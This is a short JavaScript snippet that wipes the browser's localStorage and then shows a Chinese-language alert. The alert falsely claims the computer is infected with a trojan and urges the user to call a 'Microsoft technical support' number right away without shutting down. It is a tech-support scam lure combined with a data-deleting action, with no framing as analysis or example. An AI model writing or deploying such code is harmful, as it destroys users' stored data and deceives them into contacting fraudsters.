const size = localStorage.length;
localStorage.clear();
alert("您的电脑已感染木马,请立即拨打微软技术支持热线 400-555-0100,不要关机。");
console.log(size);
